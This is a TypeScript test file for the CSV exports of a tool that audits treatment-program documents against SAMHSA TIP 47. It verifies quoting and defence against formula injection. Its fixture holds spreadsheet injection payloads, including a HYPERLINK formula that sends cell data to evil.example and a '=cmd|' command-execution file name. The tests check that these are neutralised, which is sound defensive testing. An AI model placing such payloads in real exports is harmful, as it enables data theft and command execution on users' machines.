import { describe, expect, it } from 'vitest';
import { auditText, buildResult } from '../../src/core/engine.js';
import { RULES } from '../../src/packs/index.js';
import { csvPlan, csvRatings } from '../../src/report/csv.js';
import { planRows, ratingRows } from '../../src/report/client.js';
import { withChanges } from '../support/audit.js';
import { context, engagementContext, engagementResult } from './fixture.js';

/**
 * An RFC 4180 reader, strict: records end in CRLF, a quoted field may hold commas, CRLF and
 * doubled quotes, and a quote anywhere else is an error (as a spreadsheet would misread it).
 */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote === -1) throw new Error('unterminated quoted field');
        field += text.slice(i, quote);
        if (text[quote + 1] === '"') { field += '"'; i = quote + 2; continue; }
        i = quote + 1;
        break;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      field = end === -1 ? text.slice(i) : text.slice(i, i + end);
      if (field.includes('"') || field.includes('\n') || field.includes('\r')) throw new Error(`bad unquoted field ${JSON.stringify(field)}`);
      i += field.length;
    }
    record.push(field);
    if (text.startsWith(',', i)) { i++; continue; }
    if (!text.startsWith('\r\n', i)) throw new Error(`expected CRLF at ${i}`);
    i += 2;
    records.push(record);
    record = [];
  }
  return records;
}

const FORMULA = /^[=+\-@\t\r]/;

/** A program whose name, file and finding text are what a hostile or careless author could put there. */
function hostileResult() {
  const doc = auditText(withChanges({ 'admission.days_to_first_session': 15 }), '=cmd|calc.yaml', { rules: RULES });
  doc.name = '=HYPERLINK("https://evil.example/?"&A1, "Click")';
  doc.provider = '+1 555 0100';
  const result = doc.results.find((r) => r.rule === 'SAMHSA-02')!;
  result.findings[0]!.message = '-2+3, "quoted", and a line\r\nbreak';
  result.findings[0]!.fix = '@SUM(A1:A9)';
  return buildResult([doc], '0.0.0-test');
}

describe('csv-plan', () => {
  it('has the plan\'s columns, one record per finding to act on, highest priority first', () => {
    const records = readCsv(csvPlan(engagementResult(), engagementContext));
    expect(records[0]).toEqual(['program', 'file', 'requirement', 'rule', 'finding', 'fix', 'priority', 'owner', 'due_date']);
    expect(records.every((r) => r.length === 9)).toBe(true);
    expect(records.slice(1).map((r) => [r[0], r[1], r[2], r[3], r[6], r[7], r[8]])).toEqual([
      ['Cedar Ridge Adult Day IOP', 'programs/adult-day.yaml', 'Ease entry (samhsa-tip47 2)', 'SAMHSA-02', 'High', '', ''],
      ['Cedar Ridge Adult Day IOP', 'programs/adult-day.yaml', 'Make treatment readily available (samhsa-tip47 1)', 'SAMHSA-01', 'Medium', '', ''],
      ['Cedar Ridge Adult Day IOP', 'programs/adult-day.yaml', 'Enhance therapeutic alliance (samhsa-tip47 4)', 'SAMHSA-04', 'Medium', '', ''],
    ]);
    expect(records[1]![4]).toMatch(/^12 days to the first session/);
    expect(records[1]![5]).toMatch(/^Shorten the wait from first contact to the first session by at least/);
  });

  it('quotes what needs quoting and never starts a cell with a formula character', () => {
    const records = readCsv(csvPlan(hostileResult(), context));
    const row = records.find((r) => r[3] === 'SAMHSA-02')!;
    expect(row[0]).toBe(`'=HYPERLINK("https://evil.example/?"&A1, "Click")`);
    expect(row[1]).toBe(`'=cmd|calc.yaml`);
    // Control characters are shown as escapes, as in every report; the rest of the text is kept.
    expect(row[4]).toBe(`'-2+3, "quoted", and a line\\r\\nbreak`);
    expect(row[5]).toBe(`'@SUM(A1:A9)`);
    for (const record of records) for (const cell of record) expect(cell, cell).not.toMatch(FORMULA);
  });
});

describe('csv-ratings', () => {
  it('has one record per requirement per program, with rating, evidence and whether it is unevidenced', () => {
    const records = readCsv(csvRatings(engagementResult(), engagementContext));
    expect(records[0]).toEqual(['program', 'file', 'pack', 'requirement', 'title', 'rating', 'evidence', 'unevidenced']);
    expect(records.every((r) => r.length === 8)).toBe(true);
    // 14 TIP 47 principles, 13 joint elements, 7 document checks, for each of two programs.
    expect(records).toHaveLength(1 + 2 * 34);
    expect(records[2]).toEqual(['Cedar Ridge Adult Day IOP', 'programs/adult-day.yaml', 'samhsa-tip47', '2', 'Ease entry', 'not met', '', 'no']);
    // Met on the description alone: no source document cited.
    expect(records[3]).toEqual(['Cedar Ridge Adult Day IOP', 'programs/adult-day.yaml', 'samhsa-tip47', '3', 'Build on existing motivation', 'met', '', 'yes']);
    expect(records.find((r) => r[3] === 'typical-length' && r[0] === 'Cedar Ridge Adult Day IOP')![5]).toBe('waived');
    expect(new Set(records.slice(1).map((r) => r[5]))).toEqual(new Set(['met', 'partially met', 'not met', 'not applicable', 'waived']));
  });

  it('never starts a cell with a formula character', () => {
    const records = readCsv(csvRatings(hostileResult(), context));
    expect(records[1]![0]).toBe(`'=HYPERLINK("https://evil.example/?"&A1, "Click")`);
    for (const record of records) for (const cell of record) expect(cell, cell).not.toMatch(FORMULA);
  });

  it('puts the problems of a document that could not be audited in the plan, at high priority', () => {
    const invalid = auditText('version: 1\nprogram: [\n', 'broken.yaml', { rules: RULES });
    const records = readCsv(csvPlan(buildResult([invalid], '0.0.0-test'), context));
    expect(records).toHaveLength(2);
    const [program, file, requirement, rule, finding, fix, priority] = records[1]!;
    expect({ program, file, requirement, rule, priority }).toEqual({ program: 'broken.yaml', file: 'broken.yaml', requirement: '', rule: 'syntax', priority: 'High' });
    expect(finding).toMatch(/not closed/);
    expect(fix).toMatch(/^Correct the YAML at this place/);
    const row = planRows(invalid, 0, context)[0]!;
    expect([row.ref, row.line, row.column, row.ruleTitle]).toEqual(['1.1', invalid.problems[0]!.line, invalid.problems[0]!.column, 'A valid program document']);
  });

  it('leaves a document that could not be audited out of the ratings (none are made)', () => {
    const invalid = auditText('version: 1\nprogram: [\n', 'broken.yaml', { rules: RULES });
    expect(readCsv(csvRatings(buildResult([invalid], '0.0.0-test'), context))).toHaveLength(1);
  });
});

describe('a term read as a listed word, in the client reports', () => {
  const approaches = (first: string) => withChanges({ approaches: [first, 'motivational-interviewing', 'contingency-management', 'relapse-prevention'] });
  const termsRating = (doc: ReturnType<typeof auditText>) => ratingRows(doc, context).find((r) => r.pack === 'document' && r.clause === 'terms-as-listed')!.rating;

  it('leaves the requirement met and puts the note in the plan at low priority only (CBT was understood and counted)', () => {
    const doc = auditText(approaches('CBT'), 'p.yaml', { rules: RULES });
    expect(termsRating(doc)).toBe('met');
    expect(planRows(doc, 0, context).map((row) => [row.rule, row.priority, row.finding])).toEqual([
      ['VOCAB-02', 'Low', "'CBT' read as 'cognitive-behavioral-therapy' (approaches)"],
    ]);
    const ratings = readCsv(csvRatings(buildResult([doc], '0.0.0-test'), context));
    expect(ratings.find((r) => r[2] === 'document' && r[3] === 'terms-as-listed')![5]).toBe('met');
    const plan = readCsv(csvPlan(buildResult([doc], '0.0.0-test'), context));
    expect(plan.slice(1).map((r) => [r[3], r[6]])).toEqual([['VOCAB-02', 'Low']]);
  });

  it('rates a term no list knows partially met, with a medium plan row (VOCAB-01, a warning)', () => {
    const doc = auditText(approaches('moral-reconation-therapy'), 'p.yaml', { rules: RULES });
    expect(termsRating(doc)).toBe('partially-met');
    expect(planRows(doc, 0, context).map((row) => [row.rule, row.priority])).toEqual([['VOCAB-01', 'Medium']]);
  });
});
